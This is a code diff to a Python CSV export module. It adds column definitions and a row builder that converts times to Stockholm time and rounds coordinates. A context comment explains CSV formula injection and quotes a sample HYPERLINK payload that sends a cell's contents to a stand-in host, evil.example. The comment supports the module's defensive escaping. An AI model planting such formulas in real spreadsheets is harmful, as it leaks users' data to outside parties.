@@ -7,6 +7,9 @@ import io
 from collections.abc import Iterable, Iterator
 from datetime import date, datetime
 
+from ..clock import STOCKHOLM
+from .geojson import PROPERTIES
+
 BOM = "\ufeff"
 # A text cell starting with one of these is a formula to Excel and LibreOffice (OWASP, "CSV
 # injection"): `=HYPERLINK("http://evil.example/?leak="&A2,"Klicka")` in a walker's note.
@@ -47,3 +50,15 @@ def excel_csv(header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
         buffer.truncate()
         writer.writerow([_excel_value(value) for value in row])
         yield buffer.getvalue()
+
+
+# The GeoJSON's property names, then the position (a planner joins the two on `id`).
+CSV_COLUMNS = ["id", *PROPERTIES, "longitude", "latitude"]
+
+
+def csv_row(row: dict, photo_url: str | None) -> list:
+    """One flat export row as CSV values: the time in Stockholm, coordinates with 6 decimals."""
+    values = {**row, "photo_url": photo_url}
+    values["recorded_at"] = datetime.fromisoformat(row["recorded_at"]).astimezone(STOCKHOLM)
+    values["longitude"], values["latitude"] = round(row["lon"], 6), round(row["lat"], 6)
+    return [values.get(column) for column in CSV_COLUMNS]
